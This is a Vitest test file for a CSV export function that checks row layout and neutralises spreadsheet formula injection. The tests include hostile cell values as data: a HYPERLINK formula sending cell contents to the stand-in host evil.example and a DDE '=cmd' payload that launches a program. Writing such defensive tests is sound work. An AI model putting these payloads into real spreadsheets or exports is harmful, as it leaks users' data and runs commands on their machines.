import { describe, expect, it } from "vitest";
import { csvCell, resultsToCsv } from "./widget-csv";

describe("resultsToCsv", () => {
  it("writes one row per point and per total, with tags as columns and quoting where needed", () => {
    const csv = resultsToCsv(
      [
        {
          from: "2026-01-01T00:00:00.000Z", to: "2026-01-02T00:00:00.000Z", interval: "1d", intervalSeconds: 86400, timezone: "UTC", tier: "1d", unit: null,
          series: [{ key: "plan=pro, annual", tags: { plan: "pro, annual" }, points: [[Date.UTC(2026, 0, 1), 5], [Date.UTC(2026, 0, 2), null]], total: 5 }],
        },
      ],
      ["Signups"],
    );
    expect(csv.trim().split("\n")).toEqual([
      "query,series,plan,time,value",
      'Signups,"plan=pro, annual","pro, annual",2026-01-01T00:00:00.000Z,5',
      'Signups,"plan=pro, annual","pro, annual",2026-01-02T00:00:00.000Z,',
      'Signups,"plan=pro, annual","pro, annual",total,5',
    ]);
  });
});

describe("csvCell: formula injection", () => {
  it("neutralises text a spreadsheet would evaluate as a formula with a leading apostrophe", () => {
    expect(csvCell("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")")).toBe('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"');
    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
    expect(csvCell("+1+1")).toBe("'+1+1");
    expect(csvCell("-1+1")).toBe("'-1+1");
    expect(csvCell("-2-3")).toBe("'-2-3");
    expect(csvCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvCell("\t=1+1")).toBe("'\t=1+1");
    expect(csvCell("\r=1+1")).toBe("\"'\r=1+1\"");
    expect(csvCell("  =1+1")).toBe("'  =1+1");
    expect(csvCell("\uFF1D1+1")).toBe("'\uFF1D1+1");
    expect(csvCell("-")).toBe("'-");
  });

  it("keeps numbers, and text that is only a number, readable as numbers", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(-0.25)).toBe("-0.25");
    expect(csvCell(-1e-7)).toBe("-1e-7");
    expect(csvCell("-5")).toBe("-5");
    expect(csvCell("-1.5e3")).toBe("-1.5e3");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(null)).toBe("");
  });

  it("leaves ordinary text alone, formula characters inside it included", () => {
    expect(csvCell("pro")).toBe("pro");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell("user@example.com")).toBe("user@example.com");
    expect(csvCell("2026-01-01T00:00:00.000Z")).toBe("2026-01-01T00:00:00.000Z");
  });

  it("neutralises hostile tag values, series keys and labels in a whole export, and keeps negative values numeric", () => {
    const csv = resultsToCsv(
      [
        {
          from: "2026-01-01T00:00:00.000Z", to: "2026-01-02T00:00:00.000Z", interval: "1d", intervalSeconds: 86400, timezone: "UTC", tier: "1d", unit: null,
          series: [{ key: "=1+1", tags: { "@key": "=HYPERLINK(\"http://x\")", plan: "-1+1" }, points: [[Date.UTC(2026, 0, 1), -5]], total: -5 }],
        },
      ],
      ["+label"],
    );
    expect(csv.trim().split("\n")).toEqual([
      "query,series,'@key,plan,time,value",
      `'+label,'=1+1,"'=HYPERLINK(""http://x"")",'-1+1,2026-01-01T00:00:00.000Z,-5`,
      `'+label,'=1+1,"'=HYPERLINK(""http://x"")",'-1+1,total,-5`,
    ]);
  });
});
